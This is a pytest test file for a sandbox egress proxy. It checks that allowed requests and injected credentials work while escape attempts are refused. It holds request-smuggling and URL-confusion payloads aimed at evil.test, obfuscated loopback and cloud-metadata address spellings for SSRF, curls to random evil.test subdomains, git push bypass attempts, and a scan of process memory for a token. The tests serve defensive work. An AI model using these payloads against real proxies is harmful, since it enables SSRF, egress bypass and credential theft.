"""Programs inside a real sandbox against the door: they get what a rule gives, and never what it keeps."""

import errno
import io
import os
import re
import shutil
import ssl
from collections.abc import AsyncGenerator, Callable
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import anyio
import pytest
from anyio.abc import ByteStream, SocketAttribute, SocketStream
from anyio.streams.tls import TLSStream
from tests.egress.git_server import TOKEN as GIT_TOKEN
from tests.egress.git_server import git_server, make_repository

from cloister.core.computer import Finished, shell
from cloister.core.events import ConnectionDecided, RequestDecided
from cloister.core.ids import SandboxId
from cloister.core.requests import CredentialEntry, TierName
from cloister.egress.authority import Authority
from cloister.egress.credentials import Vault, read_credentials
from cloister.egress.factory import Doorway, Through
from cloister.egress.git_push import Repository
from cloister.egress.rules import DoorEvent, Outside
from cloister.policy.api import Layer, Rule
from cloister.sandbox.api import Host, Sandbox, SandboxSpec

pytestmark = pytest.mark.anyio

TOKEN = "ghp_" + "Zq7Xw2Vb9Nk4Lm6Pr1Ts3Dy8Fh5Gj0CaRe"
TIERS: tuple[TierName, ...] = ("container", "gvisor", "microvm")


@dataclass
class Outer:
    """What is outside: a web server on loopback, known by names, and what it and the door saw."""

    port: int
    secure_port: int
    seen: list[bytes] = field(default_factory=list[bytes])
    log: list[DoorEvent] = field(default_factory=list[DoorEvent])
    looked_up: list[str] = field(default_factory=list[str])
    answers: dict[str, list[str]] = field(default_factory=dict[str, list[str]])

    def decided(self) -> list[tuple[str, int, str]]:
        return [(b.host, b.port, b.effect) for b in self.log if isinstance(b, ConnectionDecided)]


RULES = (
    "connect:web.test:80",
    "connect:*.wild.test:80",
    "connect:mixed.test",
    "connect:turning.test",
    "connect:redirect.test:80",
    "connect:secure.test:443",
    "request:GET reads.test:80/public/**",
    "connect:api.test:443",
    "connect:other.test:443",
    "credential:forge",
    "credential:git",
)
REPOSITORY = "https://git.test/team/ledger.git"
BRANCH = "cloister/mend-it-abc123"


async def _answer(stream: ByteStream, seen: list[bytes]) -> None:
    async with stream:
        head = b""
        while b"\r\n\r\n" not in head:
            head += await stream.receive()
        seen.append(head)
        body = b"a page from outside\n" + head
        if b" /away " in head:
            to = b"Location: http://169.254.169.254/latest\r\n"
            await stream.send(
                b"HTTP/1.1 302 Found\r\n" + to + b"Content-Length: 0\r\nConnection: close\r\n\r\n"
            )
            return
        await stream.send(
            b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body)
        )


@asynccontextmanager
async def outside_world(authority: Authority, forge: Path) -> AsyncGenerator[Outer]:
    async with AsyncExitStack() as stack:
        plain = await stack.enter_async_context(await anyio.create_tcp_listener(local_host="127.0.0.1"))
        secure = await stack.enter_async_context(await anyio.create_tcp_listener(local_host="127.0.0.1"))
        tasks = await stack.enter_async_context(anyio.create_task_group())
        outer = Outer(plain.extra(SocketAttribute.local_port), secure.extra(SocketAttribute.local_port))

        async def serve(stream: SocketStream) -> None:
            try:
                await _answer(stream, outer.seen)
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                await stream.aclose()

        async def serve_secure(stream: SocketStream) -> None:
            named: list[str | None] = []

            def choose(wrapped: ssl.SSLObject, name: str | None, _: ssl.SSLContext) -> None:
                named.append(name)
                wrapped.context = authority.context(name or "nobody.test")

            context = authority.context("nobody.test")
            context.sni_callback = choose
            try:
                inner = await TLSStream.wrap(
                    stream, server_side=True, ssl_context=context, standard_compatible=False
                )
                await (git_server(forge)(inner) if named == ["git.test"] else _answer(inner, outer.seen))
            except (anyio.EndOfStream, anyio.BrokenResourceError, ssl.SSLError):
                await stream.aclose()

        tasks.start_soon(plain.serve, serve)
        tasks.start_soon(secure.serve, serve_secure)
        yield outer
        tasks.cancel_scope.cancel()


def doorway(outer: Outer, authority: Authority, token: Path) -> Doorway:
    """Names mean public addresses, unless the world says otherwise; whoever dials one arrives on loopback."""

    async def resolve(host: str, port: int) -> list[str]:
        outer.looked_up.append(host)
        return outer.answers.get(host, ["93.184.216.34"])

    async def dial(address: str, port: int) -> ByteStream:
        return await anyio.connect_tcp("127.0.0.1", outer.secure_port if port == 443 else outer.port)

    entry = CredentialEntry(
        "forge",
        f"file:{token}",
        "api.test",
        paths=("/repos/**",),
        env="FORGE_TOKEN",
        header="Authorization: token {}",
    )
    git = CredentialEntry("git", "env:GIT", "git.test", basic="x-access-token", paths=("/team/**",))
    trust = ssl.create_default_context(cadata=authority.pem.decode())
    return Doorway(
        credentials=read_credentials((entry, git), "test"),
        vault=Vault({"GIT": GIT_TOKEN}),
        outside=Outside(resolve, dial, trust),
    )


@dataclass
class Stage:
    """A sandbox with its door, and what is outside."""

    sandbox: Sandbox
    outer: Outer
    host: Host
    token: Path
    forge: Path

    async def sh(self, line: str, sandbox: Sandbox | None = None, *, root: bool = False) -> Finished:
        return await (sandbox or self.sandbox).run(shell(line, seconds=60, user="root" if root else "agent"))

    async def says(self, line: str, sandbox: Sandbox | None = None) -> str:
        ran = await self.sh(line, sandbox)
        return (ran.out + ran.err).decode(errors="replace")


@pytest.fixture(scope="module")
def tier(request: pytest.FixtureRequest) -> TierName:
    """The door is the same for all; what differs between tiers is tried on each."""
    return getattr(request, "param", "container")


on_each_tier = pytest.mark.parametrize("tier", TIERS, indirect=True)


@pytest.fixture
async def stage(host: Host, tmp_path: Path) -> AsyncGenerator[Stage]:
    authority = Authority()
    token = tmp_path / "token"
    token.write_text(TOKEN)
    rules = tuple(Rule(action, "allow", "test") for action in RULES)
    forge = tmp_path / "forge"
    await anyio.to_thread.run_sync(make_repository, forge / "team" / "ledger.git")
    async with outside_world(authority, forge) as outer:

        async def record(sandbox: SandboxId, body: DoorEvent) -> None:
            outer.log.append(body)

        outfit = doorway(outer, authority, token).outfit(
            (Layer("host", rules, may_widen=True),), record, Repository.of(REPOSITORY, BRANCH)
        )
        through = Through(host, outfit)
        async with through.open(SandboxSpec()) as sandbox:
            yield Stage(sandbox, outer, through, token, forge)


RAW = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), 20)
s.sendall(sys.stdin.buffer.read())
s.shutdown(socket.SHUT_WR)
while data := s.recv(65536):
    sys.stdout.buffer.write(data)
"""

REFUSED: list[tuple[str, bytes]] = [
    ("a body with a length and in chunks", b"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n"),
    ("two lengths", b"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n"),
    ("an encoding with a space before its colon", b"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding : chunked\r\n\r\n"),
    ("an unknown encoding", b"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: xchunked\r\n\r\n"),
    ("a folded header", b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nX: a\r\n b\r\n\r\n"),
    ("another Host than the address", b"GET http://web.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("two Hosts", b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nHost: evil.test\r\n\r\n"),
    ("a line end in the name", b"CONNECT web.test\r\nX: y:80 HTTP/1.1\r\n\r\n"),
    ("a NUL in the name", b"CONNECT web.test\0.evil.test:80 HTTP/1.1\r\n\r\n"),
    ("a user name in the address", b"GET http://web.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("a fragment in the address", b"GET http://evil.test#@web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n"),
    ("a backslash in the address", b"GET http://evil.test\\@web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n"),
    ("a bare line feed", b"GET http://web.test/ HTTP/1.1\nHost: web.test\n\n"),
    ("a thousand headers", b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\n" + b"X: y\r\n" * 1_000 + b"\r\n"),
    ("a header without an end", b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nX: " + b"a" * 40_000),
    ("a connection that drops Host", b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nConnection: host\r\n\r\n"),
    ("a port that is none", b"CONNECT web.test:80evil HTTP/1.1\r\n\r\n"),
    ("plain HTTP on the TLS port", b"GET http://secure.test:443/ HTTP/1.1\r\nHost: secure.test:443\r\n\r\n"),
    ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ("the door's own address", b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n"),
    ("a name before the allowed one", b"CONNECT evilweb.test:80 HTTP/1.1\r\n\r\n"),
    ("a name behind the allowed one", b"CONNECT web.test.evil.test:80 HTTP/1.1\r\n\r\n"),
    ("the wild card itself", b"CONNECT wild.test:80 HTTP/1.1\r\n\r\n"),
    ("another port of an allowed host", b"CONNECT web.test:22 HTTP/1.1\r\n\r\n"),
    ("another method than allowed", b"POST http://reads.test/public/a HTTP/1.1\r\nHost: reads.test\r\nContent-Length: 0\r\n\r\n"),
    ("a path around the allowed one", b"GET http://reads.test/public/%2e%2e/secret HTTP/1.1\r\nHost: reads.test\r\n\r\n"),
    ("a tunnel where requests are judged", b"CONNECT reads.test:80 HTTP/1.1\r\n\r\nDELETE / HTTP/1.1\r\n\r\n"),
    ("a SOCKS name with a NUL", b"\x05\x01\x00\x05\x01\x00\x03\x12evil.test\0.web.test\x00\x50"),
    ("a SOCKS address of this machine", b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50"),
    ("SOCKS 4", b"\x04\x01\x00\x50\x00\x00\x00\x01\x00web.test\x00"),
]  # fmt: skip


async def test_what_proxies_were_tricked_with_is_refused_from_inside(stage: Stage) -> None:
    await stage.sandbox.write("raw.py", RAW.encode())
    for number, (_, data) in enumerate(REFUSED):
        await stage.sandbox.write(f"case/{number}", data)
    ran = await stage.sh(
        "for n in $(seq 0 "
        + str(len(REFUSED) - 1)
        + '); do echo "== $n"; timeout 25 python3 raw.py < case/$n; done'
    )
    told = re.split(rb"== [0-9]+\n", ran.out)[1:]
    assert len(told) == len(REFUSED)
    for (name, _), reply in zip(REFUSED, told, strict=True):
        assert b"a page from outside" not in reply, name
        # There the tunnel is opened and the request in it refused.
        assert (b" 200 " in reply) == (name == "a tunnel where requests are judged"), name
    assert stage.outer.seen == []
    assert "evil.test" not in " ".join(stage.outer.looked_up)


FORMS = (
    "127.0.0.1 127.1 0 0.0.0.0 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 [::1] [::] [::ffff:127.0.0.1] "
    "[::ffff:7f00:1] [64:ff9b::7f00:1] [2002:7f00:1::] 169.254.169.254 2852039166 0xA9FEA9FE 0251.0376.0251.0376 "
    "[fd00:ec2::254] 100.100.100.200 168.63.129.16 10.0.0.1 192.168.0.1 100.64.0.1 224.0.0.1 255.255.255.255 localhost"
)


async def test_no_spelling_of_an_address_inside_is_reached_by_any_way_in(stage: Stage) -> None:
    lines = [
        "for h in " + FORMS.replace("[", "'[").replace("]", "]'") + "; do",
        "  curl -s -g --noproxy '' -m 15 http://$h/ ;",
        "  curl -s -g --noproxy '' -m 15 -p http://$h/ ;",
        "  curl -s -g --noproxy '' -m 15 -x socks5h://127.0.0.1:3128 http://$h/ ;",
        "done; echo over",
    ]
    said = await stage.says("\n".join(lines))
    assert said.rstrip().endswith("over")
    assert "a page from outside" not in said
    assert stage.outer.seen == [] and stage.outer.looked_up == []


@on_each_tier
async def test_what_is_allowed_works_by_every_way_in_and_without_the_door_there_is_none(stage: Stage) -> None:
    said = await stage.says(
        "curl -sS http://web.test/a; curl -sSp http://x.wild.test/b;"
        "curl -sS -x socks5h://127.0.0.1:3128 http://web.test/c; curl -sS https://api.test/repos/d;"
        "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://web.test/g\").read())'"
    )
    assert said.count("a page from outside") == 5, said
    assert TOKEN not in said and TOKEN.encode() in stage.outer.seen[3]
    before = len(stage.outer.log)
    said = await stage.says(
        "env -i /usr/bin/curl -sS -m 5 http://web.test/; env -i /usr/bin/curl -sS -m 5 http://93.184.216.34/"
    )
    assert "a page" not in said
    assert len(stage.outer.log) == before


async def test_names_that_turn_inward_are_not_followed(stage: Stage) -> None:
    stage.outer.answers["mixed.test"] = ["93.184.216.34", "127.0.0.1"]
    assert "a page" not in await stage.says("curl -sS http://mixed.test/")
    assert "a page from outside" in await stage.says("curl -sS http://turning.test/")
    stage.outer.answers["turning.test"] = ["169.254.169.254"]
    assert "a page" not in await stage.says("curl -sS http://turning.test/")
    said = await stage.says("curl -sSL http://redirect.test/away")
    assert "169.254.169.254:80 is denied" in said


async def test_a_name_that_no_rule_allows_is_never_looked_up(stage: Stage) -> None:
    await stage.says(
        "for n in $(seq 20); do curl -s -m 5 http://$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n').evil.test/; done;"
        "getent hosts data.evil.test; python3 -c 'import socket; socket.getaddrinfo(\"data.evil.test\", 80)'"
    )
    assert stage.outer.looked_up == []


async def test_tls_must_ask_for_the_host_that_was_allowed(stage: Stage) -> None:
    script = """
import socket, ssl, sys
def attempt(host, name):
    s = socket.create_connection(("127.0.0.1", 3128), 20)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n".encode())
    s.recv(4096)
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    try:
        t = c.wrap_socket(s, server_hostname=name)
        t.sendall(f"GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())
        print(t.recv(4096)[:15])
    except OSError:
        print("closed")
attempt("secure.test", "evil.test")
attempt("secure.test", None)
attempt("secure.test", "api.test")
attempt("secure.test", "secure.test")
"""
    await stage.sandbox.write("tls.py", script.encode())
    said = await stage.says("python3 tls.py")
    assert said.split("\n")[:4] == ["closed", "closed", "closed", "b'HTTP/1.1 200 OK'"]
    assert [b.effect for b in stage.outer.log if isinstance(b, ConnectionDecided)].count("deny") == 3


@pytest.mark.parametrize("tier", TIERS[:2], indirect=True)
async def test_a_credential_works_inside_and_is_nowhere_inside(
    stage: Stage, pids_of: Callable[[Sandbox], list[int]], tier: TierName
) -> None:
    said = await stage.says("echo $FORGE_TOKEN; curl -sS https://api.test/repos/a; git --version")
    fake = said.split("\n")[0]
    assert fake.startswith("ghp_") and len(fake) == len(TOKEN) and fake != TOKEN
    assert "a page from outside" in said, said
    assert TOKEN.encode() in stage.outer.seen[-1]
    assert TOKEN not in said, "the server echoed it"
    # In a variable that a tool sends by itself, to its host and to others.
    said += await stage.says(
        'curl -sS -H "X-Token: $FORGE_TOKEN" https://api.test/repos/b; curl -sS -H "X-Token: $FORGE_TOKEN" https://api.test/user;'
        "curl -sS -H \"X-Token: $FORGE_TOKEN\" http://web.test/; curl -sS -H 'X-Token: {{secret:forge}}' http://web.test/"
    )
    assert [TOKEN.encode() in head for head in stage.outer.seen] == [True, True, False, False, False]
    assert TOKEN not in said
    await _look_everywhere(stage, stage.sandbox)
    if tier == "container":
        pids = pids_of(stage.sandbox)
        assert pids and _in_memory(pids) == []
        # The search finds what is there.
        assert os.getpid() in _in_memory([os.getpid()])
    assert TOKEN not in repr(stage.outer.log)
    used = [b.credential for b in stage.outer.log if isinstance(b, RequestDecided) and b.credential]
    assert used == ["forge", "forge"]


async def _look_everywhere(stage: Stage, sandbox: Sandbox) -> None:
    """All files that can be written and all environments, as root inside; what is looked for is not sent whole."""
    script = f"""
import os
token = ("{TOKEN[:18]}" + "|{TOKEN[18:]}").replace("|", "").encode()
found = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        found += [pid] if token in open(f"/proc/{{pid}}/environ", "rb").read() else []
    except OSError:
        pass
for top in ("/work", "/home", "/root", "/etc", "/tmp", "/run", "/var"):
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            if os.path.isfile(path) and not os.path.islink(path) and os.path.getsize(path) < 5_000_000:
                if token in open(path, "rb").read():
                    found.append(path)
print("found", found)
"""
    ran = await sandbox.run(shell("python3 -", user="root", seconds=60), script.encode())
    assert ran.out == b"found []\n", ran


def _in_memory(pids: list[int]) -> list[int]:
    """Which of the processes have the token in memory that can be written, as the host sees it."""
    found: list[int] = []
    for pid in pids:
        try:
            regions = Path(f"/proc/{pid}/maps").read_text().splitlines()
            with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
                found += [pid for region in regions if _holds_token(memory, region)]
        except ProcessLookupError:
            continue  # It ended while we looked.
        except OSError as error:
            if error.errno not in (errno.ESRCH, errno.ENOENT):
                raise
    return found


def _holds_token(memory: io.FileIO, region: str) -> bool:
    first, last = (int(text, 16) for text in region.split()[0].split("-"))
    if " rw" not in region or last - first >= 67_108_864:
        return False
    try:
        memory.seek(first)
        return TOKEN.encode() in memory.read(last - first)
    except OSError as error:
        if error.errno != errno.EIO:
            raise
        return False  # It was unmapped while we looked.


@on_each_tier
async def test_a_fork_has_the_same_stand_in_and_no_new_rights(stage: Stage) -> None:
    fake = (await stage.says("echo $FORGE_TOKEN")).strip()
    async with stage.sandbox.fork() as child:
        said = await stage.says(
            "echo $FORGE_TOKEN; curl -sS https://api.test/repos/a; curl -sS http://evil.test/", child
        )
        assert said.split("\n")[0] == fake
        assert "a page from outside" in said and "evil.test:80 is denied" in said
        assert TOKEN not in said and TOKEN.encode() in stage.outer.seen[-1]
        await _look_everywhere(stage, child)
    assert {b.sandbox for b in stage.outer.log} == {child.info.id}


@on_each_tier
async def test_a_snapshot_holds_nothing_of_a_credential_and_what_comes_of_it_works(stage: Stage) -> None:
    await stage.says("env > was; curl -sS https://api.test/repos/a > page")
    await _look_everywhere(stage, stage.sandbox)
    taken = await stage.sandbox.snapshot()
    try:
        async with stage.host.open(SandboxSpec(template=f"snapshot:{taken.id}")) as later:
            said = await stage.says("curl -sS https://api.test/repos/b; curl -sS http://evil.test/", later)
            assert "a page from outside" in said and "evil.test:80 is denied" in said
            await _look_everywhere(stage, later)
    finally:
        await stage.host.delete_snapshot(taken.id)


PUSHES = {
    "another branch": "origin HEAD:main",
    "another branch by force": "origin +HEAD:stable",
    "a longer name": f"origin HEAD:{BRANCH}-2",
    "a name below it": f"origin HEAD:refs/heads/{BRANCH}/x",
    "a tag of its name": f"origin HEAD:refs/tags/{BRANCH}",
    "a hidden ref": "origin HEAD:refs/cloister/attempt/0",
    "its own branch and another": f"origin HEAD:{BRANCH} HEAD:main",
    "a deletion": "origin :stable",
    "a deletion of its own branch": f"origin :{BRANCH}",
    "all branches and what is missing here": "--mirror origin",
    "options for the server": f"-o merge_request.create origin HEAD:{BRANCH}",
    "a signed push": f"--signed=if-asked -o x origin HEAD:{BRANCH}",
    "another repository": f"https://git.test/team/other.git HEAD:{BRANCH}",
    "a repository beside its own": f"https://git.test/team/ledger.git/../other.git HEAD:{BRANCH}",
}


async def test_git_inside_moves_the_runs_own_branch_and_nothing_else(stage: Stage) -> None:
    bare = stage.forge / "team" / "ledger.git"
    await anyio.to_thread.run_sync(shutil.copytree, bare, bare.with_name("other.git"))

    async def refs() -> bytes:
        listed = [
            await anyio.run_process(["git", "-C", str(bare.with_name(name)), "show-ref"])
            for name in ("ledger.git", "other.git")
        ]
        return b"".join(one.stdout for one in listed)

    setup = await stage.says(
        f"git clone -q {REPOSITORY} in && cd in && git config user.name a && git config user.email a@b &&"
        "git commit -q --allow-empty -m mended && echo ready"
    )
    assert setup == "ready\n"
    before = await refs()
    lines = [f"git push -q {words} >/dev/null 2>&1; echo $?" for words in PUSHES.values()]
    said = (await stage.says("cd in;" + "\n".join(lines))).split()
    told = dict(zip(PUSHES, said, strict=True))
    assert "0" not in said, told
    assert await refs() == before
    assert "0" in await stage.says(
        f"cd in; git push -q origin HEAD:{BRANCH}; echo $?; grep -r {GIT_TOKEN[:20]} .git"
    )
    assert BRANCH.encode() in await refs()
    assert GIT_TOKEN not in repr(stage.outer.log)


async def test_a_rotated_credential_is_used_without_a_restart_and_both_are_redacted(stage: Stage) -> None:
    await stage.says("curl -sS https://api.test/repos/a")
    newer = "ghp_" + "N" * 36
    stage.token.write_text(newer)
    said = await stage.says("curl -sS https://api.test/repos/b")
    assert newer.encode() in stage.outer.seen[-1]
    assert newer not in said and TOKEN not in said and "****" in said


async def test_the_usual_clients_trust_the_door_where_it_reads_along(stage: Stage) -> None:
    said = await stage.says(
        "curl -sS -o /dev/null -w '%{http_code} ' https://api.test/repos/a;"
        "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.test/repos/b\").status)';"
        "git ls-remote https://api.test/repos/c 2>&1 | head -1;"
        "openssl s_client -proxy 127.0.0.1:3128 -connect api.test:443 -servername api.test -verify_return_error </dev/null 2>&1 | grep -o 'Verification: OK'"
    )
    assert said.startswith("200 200\n"), said
    assert "certificate" not in said.lower(), said
    assert "Verification: OK" in said
    assert os.environ.get("FORGE_TOKEN") is None


GREET = """
import socket, ssl, struct
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
clients = [socket.create_connection(("127.0.0.1", 3128), 60) for _ in range(200)]
for s in clients:
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(b"CONNECT secure.test:443 HTTP/1.1\\r\\n\\r\\n")
assert all(b" 200 " in s.recv(4096) for s in clients)
leaving, staying = clients[:50], clients[50:]
for s in leaving:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()
begun = []
for s in staying:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="secure.test")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        begun.append((s, incoming, outgoing, tls, outgoing.read()))
for at in range(0, 600, 40):
    for s, *_, hello in begun:
        s.sendall(hello[at:at + 40])

def step(s, incoming, outgoing, call):
    while True:
        try:
            done = call()
        except ssl.SSLWantReadError:
            done = None
        s.sendall(outgoing.read())
        if done is not None:
            return done
        incoming.write(s.recv(65536))

served = 0
for s, incoming, outgoing, tls, _ in begun:
    step(s, incoming, outgoing, lambda: (tls.do_handshake(), True)[1])
    step(s, incoming, outgoing, lambda: tls.write(b"GET / HTTP/1.1\\r\\nHost: secure.test\\r\\n\\r\\n"))
    served += b"a page from outside" in step(s, incoming, outgoing, lambda: tls.read(4096))
print(served)
"""


async def test_of_many_tls_clients_those_that_greet_in_pieces_are_served_and_none_is_refused(
    stage: Stage,
) -> None:
    await stage.sandbox.write("greet.py", GREET.encode())
    assert await stage.says("python3 greet.py") == "150\n"
    assert stage.outer.decided() == [("secure.test", 443, "allow")] * 200
